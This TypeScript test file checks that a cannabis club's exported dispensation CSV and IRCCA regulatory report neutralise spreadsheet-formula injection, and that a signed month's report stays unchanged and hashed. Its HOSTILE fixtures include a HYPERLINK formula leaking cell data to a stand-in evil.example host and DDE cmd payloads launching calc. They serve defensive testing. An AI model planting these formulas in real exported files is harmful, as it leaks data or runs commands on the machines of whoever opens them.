// The files the club downloads and files with the regulator: the month's dispensations CSV and the
// IRCCA report of a closed month (CSV and PDF).
//   - No cell a member or admin typed runs as a spreadsheet formula (OWASP's CSV injection): a
//     member named `=HYPERLINK(…)`, a treatment's product `+cmd|…`, a destruction's reason
//     `=2+5`, with the separators another locale's spreadsheet would split on. The club's own
//     figures stay plain numbers (a -1 g adjustment reads -1), so the sheet can still add them.
//   - A signed month's report is the same bytes on every download, though the member it names is
//     renamed after the close; both files print the report's own SHA-256, and the CSV's is the
//     hash of its bytes before that line.
import { createHash } from 'node:crypto';
import { clubNow } from '@club/domain/club-clock';
import { graphql, loginToken } from '../../gateway/test-support/test-gateway.ts';
import { readPdf } from '../../test-support/pdf.ts';
import {
  ADMIN,
  Check,
  type CheckResult,
  seededGateway,
  type TestGateway,
} from '../test-support/check-support.ts';

export const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?d="&C3,"Ver")',
  lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
  product: "+cmd|' /C calc'!A0",
  ingredient: '-2+3+cmd',
  // Plain at the start, a formula after a separator: what a sheet split on ',' or ';' would see.
  dose: '5 ml/L,=1+1',
  method: 'Pulverizador; @SUM(A1)',
  appliedBy: '\uff1d1+1',
  reason: '=2+5',
  witness: '@Testigo',
};

const FORMULA_START = /^[=+\-@\uff1d\uff0b\uff0d\uff20]/;

/**
 * Pieces of the file a spreadsheet could take for a cell starting with a formula character,
 * whatever it splits on (';', ',' or tab) and even if it ignores quotes: leading spaces and
 * quotes are dropped first. A plain integer is the club's figure (a signed adjustment), not one.
 */
export function formulaPieces(csv: string): string[] {
  return csv.split(/[;,\t\r\n]/).filter((piece) => {
    const start = piece.replace(/^[\s\u00a0"]+/, '');
    return FORMULA_START.test(start) && !/^-?\d+$/.test(start);
  });
}

/** RFC 4180 with ';': what a spreadsheet in Spanish reads, each cell's text. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

// biome-ignore lint/suspicious/noExplicitAny: GraphQL answers read field by field
type Answer = Record<string, any>;

async function asAdmin(gw: TestGateway, auth: Record<string, string>, query: string, variables = {}) {
  const answer = await graphql(gw.app, query, variables, auth);
  if (answer.status !== 200 || answer.body.errors) {
    throw new Error(`${query.slice(0, 60)}…: ${answer.status} ${JSON.stringify(answer.body)}`);
  }
  return answer.body.data as Answer;
}

/** Every mutation's `{ ok code error }` must be ok: the check's own set-up. */
function mustBeOk(result: Answer, what: string): Answer {
  if (!result?.ok) throw new Error(`${what}: ${JSON.stringify(result)}`);
  return result;
}

interface Month {
  month: string;
  memberId: number;
}

/** Today's month with a hostile member's handover, treatment, destruction and a -1 g correction, closed by the RT. */
async function hostileMonth(gw: TestGateway, auth: Record<string, string>): Promise<Month> {
  const today = clubNow(new Date()).date;
  const month = today.slice(0, 7);
  const run = (query: string, variables = {}) => asAdmin(gw, auth, query, variables);
  const { me } = await run('{ me { id } }');
  mustBeOk(
    (
      await run(
        'mutation ($id: Int!) { setMemberTechnicalLead(id: $id, technicalLead: true) { ok code error } }',
        {
          id: me.id,
        },
      )
    ).setMemberTechnicalLead,
    'RT',
  );
  const { createMember } = await run(
    'mutation ($input: CreateMemberInput!) { createMember(input: $input) { ok code error member { id } } }',
    {
      input: {
        name: HOSTILE.name,
        lastName: HOSTILE.lastName,
        mail: 'formula@club.uy',
        cedula: '4.187.623-6',
        birthDate: '1990-04-12',
        residency: 'ciudadania',
        phone: '099 555 123',
      },
    },
  );
  const memberId = mustBeOk(createMember, 'socio').member.id as number;
  mustBeOk(
    (
      await run('mutation ($input: AddBillInput!) { addBill(input: $input) { ok code error } }', {
        input: { socioId: memberId, date: today, species: [{ product: 'ogkush', amount: 5 }] },
      })
    ).addBill,
    'boleta',
  );
  const { registerMotherPlant } = await run(
    `mutation ($on: String!) { registerMotherPlant(input: { productId: 8, name: "Madre F",
      origin: "Semilla", registeredOn: $on }) { ok code error motherPlant { id } } }`,
    { on: today },
  );
  const { startBatch } = await run(
    'mutation ($m: Int, $on: String!) { startBatch(input: { motherId: $m, plants: 4, startedOn: $on }) { ok code error batch { id } } }',
    { m: mustBeOk(registerMotherPlant, 'madre').motherPlant.id, on: today },
  );
  mustBeOk(
    (
      await run('mutation ($input: TreatmentInput!) { applyTreatment(input: $input) { ok code error } }', {
        input: {
          product: HOSTILE.product,
          activeIngredient: HOSTILE.ingredient,
          dose: HOSTILE.dose,
          method: HOSTILE.method,
          appliedBy: HOSTILE.appliedBy,
          appliedOn: today,
          batchIds: [mustBeOk(startBatch, 'lote').batch.id],
        },
      })
    ).applyTreatment,
    'tratamiento',
  );
  mustBeOk(
    (
      await run('mutation ($input: DestroyStockInput!) { destroyStock(input: $input) { ok code error } }', {
        input: {
          target: { kind: 'product', productId: 8 },
          grams: 1,
          reason: HOSTILE.reason,
          method: 'Triturado',
          witness: HOSTILE.witness,
          date: today,
        },
      })
    ).destroyStock,
    'destrucción',
  );
  mustBeOk(
    (await run('mutation { adjustStock(id: 8, grams: -1, reason: "Recuento") { ok code error } }'))
      .adjustStock,
    'ajuste',
  );
  const { monthCloses } = await run('{ monthCloses { months { month hash } } }');
  const hash = monthCloses.months.find((m: Answer) => m.month === month)?.hash;
  mustBeOk(
    (
      await run('mutation ($input: CloseMonthInput!) { closeMonth(input: $input) { ok code error } }', {
        input: { month, reasons: [], hash },
      })
    ).closeMonth,
    'cierre',
  );
  return { month, memberId };
}

function noFormulas(check: Check, file: string, csv: string): void {
  const pieces = formulaPieces(csv);
  check.count('celdas revisadas', csv.split(/[;,\t\r\n]/).length);
  check.expect(
    pieces.length === 0,
    `${file}: ${pieces.length} celdas empiezan como fórmula, p. ej. ${JSON.stringify(pieces.slice(0, 3))}`,
  );
}

/** Finding: a member's name or a treatment's product runs as a formula in the club's CSVs. */
async function formulaInjection(
  gw: TestGateway,
  auth: Record<string, string>,
  { month, memberId }: Month,
  check: Check,
) {
  const { dispensationsCsv } = await asAdmin(
    gw,
    auth,
    'query ($m: String!) { dispensationsCsv(month: $m) }',
    {
      m: month,
    },
  );
  noFormulas(check, 'dispensaciones CSV', dispensationsCsv);
  const row = parseCsv(dispensationsCsv).find((cells) => cells[1] === String(memberId));
  // Neutralised, not dropped: the text as typed, after one single quote (after the cédula).
  check.expect(
    row?.[3] === `'${HOSTILE.name}` && row?.[4] === `'${HOSTILE.lastName}`,
    `dispensaciones CSV: el socio se lee ${JSON.stringify(row?.slice(3, 5))}`,
  );

  const { monthReportCsv } = await asAdmin(gw, auth, 'query ($m: String!) { monthReportCsv(month: $m) }', {
    m: month,
  });
  noFormulas(check, 'informe IRCCA CSV', monthReportCsv ?? '');
  const rows = parseCsv(monthReportCsv ?? '');
  const treatment = rows.find((cells) => cells[1]?.includes('cmd|'));
  check.expect(
    treatment?.[1] === `'${HOSTILE.product}` && treatment?.[2] === `'${HOSTILE.ingredient}`,
    `informe IRCCA CSV: el tratamiento se lee ${JSON.stringify(treatment)}`,
  );
  // The club's figures stay numbers: OG Kush's balance line, its 'ajustes' the -1 g correction.
  const balance = rows.find((cells) => cells[0] === 'OG Kush' && cells.length === 11);
  check.expect(balance?.[3] === '-1', `informe IRCCA CSV: el ajuste de OG Kush se lee ${balance?.[3]}`);
}

/** Finding: the report of a signed month changes when a member it names is renamed. */
async function signedReportFrozen(
  gw: TestGateway,
  auth: Record<string, string>,
  { month, memberId }: Month,
  check: Check,
) {
  const download = async () => {
    const data = await asAdmin(
      gw,
      auth,
      'query ($m: String!) { monthReportCsv(month: $m) monthReportPdf(month: $m) }',
      { m: month },
    );
    check.count('descargas del mes cerrado');
    return { csv: String(data.monthReportCsv), pdf: Buffer.from(String(data.monthReportPdf), 'base64') };
  };
  const before = await download();
  mustBeOk(
    (
      await asAdmin(
        gw,
        auth,
        'mutation ($id: Int!) { updateMember(id: $id, input: { name: "Renombrado", lastName: "Después" }) { ok code error } }',
        { id: memberId },
      )
    ).updateMember,
    'renombrar',
  );
  const after = await download();
  check.expect(after.csv === before.csv, 'el CSV del mes firmado cambió al renombrar al socio');
  check.expect(!after.csv.includes('Renombrado'), 'el CSV del mes firmado trae el nombre nuevo');
  check.expect(after.pdf.equals(before.pdf), 'el PDF del mes firmado cambió entre descargas');

  const lines = after.csv.split('\r\n');
  const last = lines.at(-2) ?? '';
  const hashed = after.csv.slice(0, after.csv.length - last.length - 2);
  const sha256 = createHash('sha256').update(hashed, 'utf8').digest('hex');
  check.expect(last === `sha256_informe;${sha256}`, `la última línea del CSV no es su SHA-256: ${last}`);
  check.expect((await readPdf(after.pdf)).text.includes(sha256), 'el PDF no imprime el SHA-256 del informe');
}

export interface ReportsStand {
  gw: TestGateway;
  auth: Record<string, string>;
  month: Month;
}

/** A seeded gateway whose current month holds the hostile texts and is closed by the RT. */
export async function reportsStand(): Promise<ReportsStand> {
  const gw = await seededGateway();
  try {
    const auth = { auth_token: await loginToken(gw.app, ADMIN.mail, ADMIN.password) };
    return { gw, auth, month: await hostileMonth(gw, auth) };
  } catch (error) {
    await gw.close();
    throw error;
  }
}

export async function csvInjection({ gw, auth, month }: ReportsStand): Promise<CheckResult> {
  const check = new Check('Inyección de fórmulas en los CSV');
  await formulaInjection(gw, auth, month, check);
  return check.result();
}

export async function signedReport({ gw, auth, month }: ReportsStand): Promise<CheckResult> {
  const check = new Check('Informe de un mes firmado');
  await signedReportFrozen(gw, auth, month, check);
  return check.result();
}
